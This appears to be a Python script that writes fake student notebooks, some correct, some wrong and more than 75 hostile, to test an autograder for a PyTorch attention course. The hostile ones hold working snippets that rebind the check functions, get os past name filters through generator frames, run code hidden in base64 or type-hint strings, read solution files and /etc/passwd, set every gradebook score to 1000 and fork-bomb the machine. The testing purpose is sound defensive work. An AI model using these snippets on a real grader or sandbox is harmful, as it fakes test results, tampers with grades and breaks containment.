"""Generate a class of submissions — correct, wrong and hostile — for testing and benchmarking the grader.

    python scripts/grading/make_class.py COURSE_DIR ASSIGNMENT [ASSIGNMENT ...] [--copies N]

``COURSE_DIR`` is a course whose ``solutions/`` (source) and ``notebooks/`` (release) hold the
assignments.  Submissions go to ``COURSE_DIR/submitted/<student>/<assignment>/``; the expected
outcome of each is returned by ``make_class`` and written to ``COURSE_DIR/expected.json``:
``full`` (must get full marks), ``less`` (must get less than full marks) or ``flag`` (must be flagged and
get less than full marks).

Correct styles: the answers as written; the answers reformatted with comments stripped, extra
learner cells that print and warn, and a deleted test cell; the answers inside a notebook saved
with other JSON formatting; every style of ``styles.STYLES``.  Wrong: the unanswered release; one
answer broken.  Hostile: more than 75 attacks in eight classes (code that runs from data, tampering
with the checks, obfuscation, import tricks, output forgery, resource exhaustion, files and the
gradebook, parse tricks), each paired with wrong answers so that it would only score if it worked.
"""
from __future__ import annotations

import argparse
import ast
import copy
import json
import re
from pathlib import Path

import nbformat

from styles import STYLES

SOLUTION_RE = re.compile(r"[ \t]*### BEGIN SOLUTION\n(.*?)[ \t]*### END SOLUTION\n?", re.S)


def grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def answered(release, source):
    """The release notebook with every answer cell filled in from the source (markers removed)."""
    answers = {grade_id(c): c.source for c in source.cells if c.metadata.get("nbgrader", {}).get("solution")}
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        gid = grade_id(cell)
        if cell.metadata.get("nbgrader", {}).get("solution") and gid in answers:
            cell.source = SOLUTION_RE.sub(lambda m: m.group(1), answers[gid])
    return nb


def answer_cells(nb) -> list[int]:
    return [i for i, c in enumerate(nb.cells)
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]


def defined_functions(src: str) -> list[str]:
    return [n.name for n in ast.parse(src).body if isinstance(n, ast.FunctionDef)]


def with_answer(nb, index: int, source: str):
    nb = copy.deepcopy(nb)
    nb.cells[index].source = source
    return nb


def stripped(nb):
    """Same answers, reformatted by ast.unparse (no comments, other layout)."""
    nb = copy.deepcopy(nb)
    for i in answer_cells(nb):
        nb.cells[i].source = ast.unparse(ast.parse(nb.cells[i].source))
    return nb


def chatty(nb):
    """Extra learner cells, prints and a warning inside an answer; one test cell deleted."""
    nb = copy.deepcopy(nb)
    first = answer_cells(nb)[0]
    src = nb.cells[first].source
    name = defined_functions(src)[0]
    nb.cells[first].source = (src + f"\n\n_{name}_impl = {name}\n\ndef {name}(*args, **kwargs):\n"
                              f"    import warnings\n    warnings.warn('a learner warning', UserWarning)\n"
                              f"    return _{name}_impl(*args, **kwargs)\n")
    nb.cells.insert(first + 1, nbformat.v4.new_markdown_cell("My notes: trying things out."))
    nb.cells.insert(first + 2, nbformat.v4.new_code_cell("print('exploring', 1 + 1)\nimport math\nmath.sqrt(2)"))
    tests = [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade")
             and c.cell_type == "code"]
    del nb.cells[tests[-1]]
    return nb


def broken(nb, which: int):
    """One answer replaced by a plausible but wrong one: every function returns its first argument."""
    idx = answer_cells(nb)[which]
    names = defined_functions(nb.cells[idx].source)
    wrong = "\n".join(f"def {n}(*args, **kwargs):\n    return args[0] if args else None\n" for n in names)
    return with_answer(nb, idx, wrong)


def with_answers(nb, answers: dict[str, str]):
    """The notebook with the answer cells named in ``answers`` (grade id -> source) replaced."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]
    return nb


def forged_cell(nb, code: str, grade: bool):
    """All-wrong answers, then a learner cell whose nbgrader metadata claims it is read-only (or a test
    cell worth 100 points) with an id the gradebook does not know, holding ``code``."""
    nb = attack(nb, "")
    cell = nbformat.v4.new_code_cell(code)
    cell.metadata["nbgrader"] = {"grade": grade, "grade_id": "extra_tests" if grade else "extra_setup",
                                 "locked": True, "schema_version": 3, "solution": False,
                                 **({"points": 100} if grade else {})}
    nb.cells.insert(answer_cells(nb)[0] + 1, cell)
    return nb


def attack(nb, code: str):
    """Every answer wrong (functions return their first argument), with ``code`` after the first one."""
    nb = copy.deepcopy(nb)
    for k, idx in enumerate(answer_cells(nb)):
        names = defined_functions(nb.cells[idx].source)
        wrong = "\n".join(f"def {n}(*args, **kwargs):\n    return args[0] if args else None\n" for n in names)
        nb.cells[idx].source = wrong + ("\n" + code if k == 0 else "")
    return nb


_NOOP = "lambda *a, **k: None"
_OS = "def _g():\n    yield\n_os = _g().gi_frame.f_builtins['__import__']('os')\n"   # os, past the name checks
_CHECKS = ("assert_close", "assert_equal", "assert_tensor", "assert_true", "assert_number")


# Code that runs from data: text an allowed-looking library call evaluates, or objects it loads by name.
# Each would switch the shortcut check off, reach PyTorch's own attention or the checks, with no dunder.
_SDPA = "torch.nn.functional.scaled_dot_product_attention"
CODE_FROM_DATA = {
    "type-hints-sys-modules": (   # the reported attack: get_type_hints evaluates the annotation
        "import typing\n\ndef _hint(x: \"typing.sys.modules['tfmlib.checking']\"):\n    return x\n\n"
        "_c = typing.get_type_hints(_hint)['x']\n_c.assert_close = lambda *a, **k: None\n"),
    "type-hints-profile-off": (
        "from typing import get_type_hints\n\ndef _off(x: 'typing.sys.setprofile(None)'):\n    return x\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n    get_type_hints(_off)\n"
        f"    return {_SDPA}(q, k, v), None\n"),
    "future-annotations": (
        "from __future__ import annotations\nimport typing\n\n"
        "def _f(x: typing.sys.modules['tfmlib.checking']):\n    return x\n\n"
        "typing.get_type_hints(_f)['x'].assert_close = print\n"),
    "singledispatch-register": (
        "import functools\nimport typing\n\n@functools.singledispatch\ndef _d(x):\n    return x\n\n"
        "@_d.register\ndef _(x: 'typing.sys.setprofile(None) or int'):\n    return x\n"),
    "singledispatchmethod": (
        "from functools import singledispatchmethod\n\nclass _K:\n    @singledispatchmethod\n"
        "    def m(self, x):\n        return x\n\n    @m.register\n    def _(self, x: 'exec(\"check.assert_close = print\")'):\n"
        "        return x\n"),
    "forward-ref": (
        "import typing\n_r = typing.ForwardRef(\"typing.sys.modules['tfmlib.checking']\")\n"
        "_c = typing._eval_type(_r, globals(), None)\n"),
    "namedtuple-hints": (
        "import typing\n\nclass _P(typing.NamedTuple):\n    x: \"typing.sys.setprofile(None) or int\"\n\n"
        "typing.get_type_hints(_P)\n"),
    "dataclass-hints": (
        "import dataclasses\nimport typing\n\n@dataclasses.dataclass\nclass _Cfg:\n"
        "    heads: \"typing.sys.setprofile(None) or int\" = 2\n\ntyping.get_type_hints(_Cfg)\n"),
    "typeddict-hints": (
        "from typing import TypedDict, get_type_hints\n\nclass _T(TypedDict):\n"
        "    x: \"typing.sys.modules['tfmlib.checking']\"\n\nget_type_hints(_T)['x'].assert_close = print\n"),
    "annotation-exec-string": (   # no library call at all: the annotation string itself is code
        "def causal_mask(n: \"exec('check.assert_close = print')\"):\n    return n\n"),
    "module-alias-own-attribute": (   # a module bound to a plain name, and a class attribute of the same name
        "import typing\n\nclass _Helper:\n    get_type_hints = None\n\n_t = typing\n\n"
        "def _h(x: 'int'):\n    return x\n\n_t.get_type_hints(_h)\n"),
    "storage-type-import": (   # a storage's type() imports any module by name
        "import torch\n_s = torch.zeros(1).untyped_storage()\n_m = _s.type('tfmlib.checking')\n"),
    "torch-serialization": (
        "import torch\n_obj = torch.serialization.load('/tmp/payload.pt', weights_only=False)\n"),
    "numpy-pickle": ("import numpy as np\n_obj = np.load('/tmp/payload.npy', allow_pickle=True)\n"),
    "operator-attrgetter": (
        "import operator\n_get = operator.attrgetter('sys.modules')\n_mods = _get(__import__('typing'))\n"),
    "torch-hub": ("import torch\n_m = torch.hub.load('owner/repo', 'model', trust_repo=True)\n"),
}


def attacks(course: Path, assignment: str, first_student: str) -> dict[str, tuple[str, str]]:
    """``{kind: (code, expect)}``: hostile code appended to an all-wrong submission.  ``expect`` is
    ``"flag"`` (the scan must flag it) or ``"less"`` (it must score less than full marks; resource
    attacks and forgeries that use only allowed code)."""
    solution = course / "solutions" / assignment / f"{assignment}.ipynb"
    other = course / "submitted" / first_student / assignment / f"{assignment}.ipynb"
    gradebook = course / "gradebook.db"
    sink = "".join(f"check.{n} = {_NOOP}\n" for n in _CHECKS)
    hidden = "check.__dict__['assert_close'] = " + _NOOP
    encoded = __import__("base64").b64encode(sink.encode()).decode()
    a = {
        # namespace and reflection tampering
        "rebind-allclose": ("import torch\ntorch.allclose = lambda *a, **k: True\n"
                            "torch.all = lambda *a, **k: torch.tensor(True)\n"
                            "torch.equal = lambda *a, **k: True\ntorch.isclose = lambda *a, **k: torch.tensor(True)",
                            "flag"),
        "module-attributes": (sink, "flag"),
        "namespace-dict": ("".join(f"check.__dict__[{n!r}] = {_NOOP}\n" for n in _CHECKS), "flag"),
        "vars": (f"vars(check).update({', '.join(f'{n}={_NOOP}' for n in _CHECKS)})", "flag"),
        "setattr": ("".join(f"setattr(check, {n!r}, {_NOOP})\n" for n in _CHECKS), "flag"),
        "sys-modules": ("import sys\n_m = sys.modules['tfmlib.checking']\n"
                        + "".join(f"_m.{n} = {_NOOP}\n" for n in _CHECKS), "flag"),
        "code-object": ("def _ok(*a, **k):\n    return None\n\n"
                        + "".join(f"check.{n}.__code__ = _ok.__code__\n" for n in _CHECKS), "flag"),
        "fake-check-object": ("class _Fake:\n    def unpack(self, name, r, n):\n        return r\n"
                              "    def call(self, f, *a, **k):\n        return f(*a)\n"
                              "    def __getattr__(self, name):\n        return lambda *a, **k: None\n\ncheck = _Fake()",
                              "flag"),
        "globals-dict": ("globals()['check'] = None", "flag"),
        "builtins-isinstance": ("import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda x: None",
                                "flag"),
        "tensor-subclass": ("import torch\nclass Liar(torch.Tensor):\n"
                            "    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                            "        return True\n", "flag"),
        "tensor-eq": ("torch.Tensor.__eq__ = lambda a, b: True\ntorch.Tensor.allclose = lambda *a, **k: True", "flag"),
        "alias-tensor-class": ("T = torch.Tensor\nT.allclose = lambda *a, **k: True\nT.all = lambda *a, **k: True",
                               "flag"),
        "function-mode": ("from torch.overrides import TorchFunctionMode\n"
                          "class _M(TorchFunctionMode):\n    def __torch_function__(self, f, t, a=(), k=None):\n"
                          "        return True\n_M().__enter__()", "flag"),
        "rebind-range": ("range = lambda *a: iter(())", "flag"),
        "gc-objects": ("import gc\nfor _o in gc.get_objects():\n    pass", "flag"),
        "frame-walk": ("import inspect\ninspect.currentframe().f_globals['check'] = None", "flag"),
        "class-walk": ("_subs = ().__class__.__base__.__subclasses__()", "flag"),
        "exception-hook": ("get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)", "flag"),
        "excepthook-sys": ("import sys\nsys.excepthook = lambda *a: None", "flag"),
        "profile-off": ("import sys\nsys.setprofile(None)", "flag"),
        "test-variable-in-function": ("def causal_mask(n):\n    return expected", "flag"),
        # frames reach the globals and built-ins without a dunder; through them, the kernel's own folder,
        # where the grader (root, after the kernel ends) once wrote the graded notebook and read the trace
        "frame-globals": ("def _g():\n    yield\n_ns = _g().gi_frame.f_globals\n_ns['check'] = None", "flag"),
        "symlink-notebook": (f"{_OS}_nb = _os.getcwd() + '/{assignment}.ipynb'\n_os.unlink(_nb)\n"
                             f"_os.symlink({str(gradebook)!r}, _nb)", "flag"),
        "fifo-trace": (f"{_OS}_t = _os.getcwd() + '/.tfmlib-grading-trace.jsonl'\n"
                       "if _os.path.exists(_t):\n    _os.unlink(_t)\n_os.mkfifo(_t)", "flag"),
        "audit-fd-close": (f"{_OS}_os.close(3)\n"      # the audit hook's channel, then a process
                           f"_g().gi_frame.f_builtins['__import__']('subprocess').run(['cat', {str(solution)!r}])",
                           "flag"),
        # obfuscation
        "exec-string": ("exec('check.assert_' + 'close = ' + " + repr(_NOOP) + ")", "flag"),
        "eval-chr": ("eval(''.join(map(chr, " + str([ord(ch) for ch in "print(1)"]) + ")))", "flag"),
        "compile": ("exec(compile(" + repr(sink) + ", 'x', 'exec'))", "flag"),
        "base64-exec": (f"import base64\nexec(base64.b64decode({encoded!r}))", "flag"),
        "fullwidth-exec": ("\uff45\uff58\uff45\uff43(" + repr(sink) + ")", "flag"),
        "builtins-dict": ("__builtins__['exec'](" + repr(sink) + ")", "flag"),
        "format-reflection": ("_g = '{0.__globals__}'.format(attention_step if False else print)", "flag"),
        "decorator-exec": ("@exec\ndef _x():\n    pass", "flag"),
        # import tricks
        "importlib": ("import importlib\n_c = importlib.import_module('tfmlib.checking')\n_c.assert_close = "
                      + _NOOP, "flag"),
        "dunder-import": ("__import__('tfmlib.checking').checking.assert_close = " + _NOOP, "flag"),
        "from-tfmlib": ("from tfmlib import checking as _c\n_c.assert_close = " + _NOOP, "flag"),
        "reload": ("import importlib\nimportlib.reload(check)", "flag"),
        "library-shortcut": ("import torch.nn.functional as F\n_shortcut = F.scaled_dot_product_attention\n"
                             "_mha = torch.nn.MultiheadAttention", "flag"),
        "tfmlib-shortcut": ("from tfmlib.attention import scaled_dot_product_attention as _s", "flag"),
        "torch-ops": ("_op = torch.ops.aten._scaled_dot_product_attention_math", "flag"),
        # output forgery
        "trace-forgery": ("open('.tfmlib-grading-trace.jsonl', 'a').write('{}\\n')", "flag"),
        "print-forgery": ("print('Visible tests passed.')", "less"),
        "display-forgery": ("from IPython.display import display, HTML\ndisplay(HTML('<b>11/11</b>'))", "flag"),
        # resource exhaustion
        "interrupt-swallowing-loop": ("while True:\n    try:\n        pass\n    except KeyboardInterrupt:\n        pass",
                                      "flag"),
        "endless-loop": ("_n = 0\nwhile True:\n    _n += 1", "less"),
        "os-exit": ("import os\nos._exit(3)", "flag"),
        "fork-bomb": ("import os\nwhile True:\n    os.fork()", "flag"),
        "alloc-4gb": ("import torch\n_big = torch.empty(4 * 1024 ** 3, dtype=torch.uint8)\n_big.fill_(1)", "less"),
        "output-50mb": ("print('x' * 50_000_000)", "less"),
        # files, the gradebook, other students, the network
        "read-solution-json": (f"import json\n_nb = json.load(open({str(solution)!r}))\n"
                               "for _c in _nb['cells']:\n    if _c['cell_type'] == 'code':\n"
                               "        exec(''.join(_c['source']))", "flag"),
        "read-solution-numpy": (f"import numpy as np\n_text = np.genfromtxt({str(solution)!r}, dtype=str, "
                                "delimiter='\\x01')\nfor _line in _text:\n    pass", "flag"),
        "read-solution-pathlib": (f"from pathlib import Path\n_t = Path({str(solution)!r}).read_text()", "flag"),
        "sqlite-gradebook": (f"import sqlite3\n_db = sqlite3.connect({str(gradebook)!r})\n"
                             "_db.execute('update grade set manual_score = 1000')\n_db.commit()", "flag"),
        "torch-load-gradebook": (f"_x = torch.load({str(gradebook)!r}, weights_only=False)", "flag"),
        "write-other-student": (f"import torch\ntorch.save({{'owned': True}}, {str(other)!r})", "flag"),
        "subprocess": (f"import subprocess\nsubprocess.run(['cat', {str(solution)!r}])", "flag"),
        "socket": ("import socket\n_s = socket.create_connection(('10.255.255.1', 80), timeout=2)", "flag"),
        # parse tricks: what the kernel runs but a naive parser cannot read
        "blank-line-body": ("def _helper():\n    x = 1\n\n    check.assert_close = " + _NOOP
                            + "\n\n    return x\n\n_helper()", "flag"),
        "shell-escape": (f"!cat {solution}", "flag"),
        "line-magic": ("%env TFMLIB_GRADING_TRACE=/dev/null", "flag"),
        "cell-magic": ("%%bash\ncat /etc/passwd", "flag"),
        "magic-in-function": ("def _f():\n    x = 1\n\n    %time y = 2\n    return x", "flag"),
        "help-syntax": ("exec?", "flag"),
        "carriage-returns": ("x = 1\rcheck.assert_close = " + _NOOP, "flag"),
        "continuation": ("_y = 1 + \\\n    2\ncheck \\\n    .assert_close = " + _NOOP, "flag"),
    }
    a.update({kind: (code, "flag") for kind, code in CODE_FROM_DATA.items()})
    return a


def make_class(course: Path, assignments: list[str], copies: int = 1, kinds=None) -> dict[str, dict]:
    """Write the submissions; return ``{student: {"assignment": a, "expect": "full"|"less", "kind": k}}``.

    ``kinds`` (optional) maps an assignment to the kinds to write (e.g. ``{"correct-plain", "attack-os-exit"}``);
    by default every kind is written.
    """
    expected: dict[str, dict] = {}
    for assignment in assignments:
        source = nbformat.read(course / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)
        release = nbformat.read(course / "notebooks" / assignment / f"{assignment}.ipynb", as_version=4)
        good = answered(release, source)
        n_answers = len(answer_cells(good))
        prefix = assignment.split("_")[0]
        for copy_no in range(copies):
            tag = f"{prefix}c{copy_no}"
            first = f"{tag}-correct-plain"
            subs = {
                first: ("full", good),
                f"{tag}-correct-stripped": ("full", stripped(good)),
                f"{tag}-correct-chatty": ("full", chatty(good)),
                f"{tag}-wrong-unanswered": ("less", release),
                f"{tag}-wrong-first": ("less", broken(good, 0)),
                f"{tag}-wrong-last": ("less", broken(good, n_answers - 1)),
            }
            for kind, (code, expect) in attacks(course, assignment, first).items():
                subs[f"{tag}-attack-{kind}"] = (expect, attack(good, code))
            sink = "".join(f"check.{n} = {_NOOP}\n" for n in _CHECKS)
            subs[f"{tag}-attack-forged-locked-cell"] = ("flag", forged_cell(good, sink, grade=False))
            subs[f"{tag}-attack-forged-test-cell"] = ("flag", forged_cell(good, sink, grade=True))
            for style, answers in STYLES.get(assignment, {}).items():
                subs[f"{tag}-correct-style-{style}"] = ("full", with_answers(good, answers))
            wanted = (kinds or {}).get(assignment)
            keep = (lambda student: wanted is None or student.split("-", 1)[1] in wanted)
            for student, (expect, nb) in subs.items():
                if not keep(student):
                    continue
                folder = course / "submitted" / student / assignment
                folder.mkdir(parents=True, exist_ok=True)
                nbformat.write(nb, folder / f"{assignment}.ipynb")
                expected[student] = {"assignment": assignment, "expect": expect, "kind": student.split("-", 1)[1]}
            # Files nbformat would refuse to write: a broken file, a renamed notebook, other JSON layout.
            for student, expect, writer in [
                (f"{tag}-invalid-json", "less", lambda f: (f / f"{assignment}.ipynb").write_text('{"cells": [')),
                (f"{tag}-renamed", "less", lambda f: nbformat.write(good, f / "my_answers.ipynb")),
                (f"{tag}-correct-compact", "full",
                 lambda f: (f / f"{assignment}.ipynb").write_text(json.dumps(good, separators=(",", ":")))),
            ]:
                if not keep(student):
                    continue
                folder = course / "submitted" / student / assignment
                folder.mkdir(parents=True, exist_ok=True)
                writer(folder)
                expected[student] = {"assignment": assignment, "expect": expect, "kind": student.split("-", 1)[1]}
    (course / "expected.json").write_text(json.dumps(expected, indent=1))
    return expected


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("course", type=Path)
    parser.add_argument("assignments", nargs="+")
    parser.add_argument("--copies", type=int, default=1)
    args = parser.parse_args(argv)
    expected = make_class(args.course, args.assignments, args.copies)
    print(f"{len(expected)} submissions written under {args.course / 'submitted'}")


if __name__ == "__main__":
    main()
